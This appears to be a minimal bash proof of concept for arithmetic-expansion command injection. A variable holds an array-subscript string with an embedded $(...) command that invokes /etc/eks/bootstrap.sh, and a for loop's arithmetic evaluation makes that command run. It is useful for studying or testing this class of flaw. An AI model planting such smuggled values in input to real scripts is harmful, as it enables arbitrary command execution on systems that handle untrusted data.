#!/bin/bash
x='a[$(/etc/eks/bootstrap.sh c >&2)]'
for ((i=x; i<1; i++)); do :; done
